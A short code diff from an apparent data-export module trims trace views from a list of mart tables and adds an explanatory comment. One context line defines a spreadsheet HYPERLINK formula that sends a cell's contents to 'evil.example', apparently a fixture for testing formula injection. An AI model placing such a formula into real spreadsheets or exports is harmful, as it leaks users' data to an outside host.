@@ -31,11 +31,7 @@ MARTS = (
     "fct_employee_roster_mismatches",
     "fct_load_accounting",
     "fct_plan_gaps",
-    "trace_cost_spikes",
-    "trace_load_accounting",
-    "trace_plan_gaps",
-    "trace_roster_mismatches",
-)
+)  # the trace views (marts.trace_*) are not exported: the parquet test checks every file written
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
 LOOKUP = [
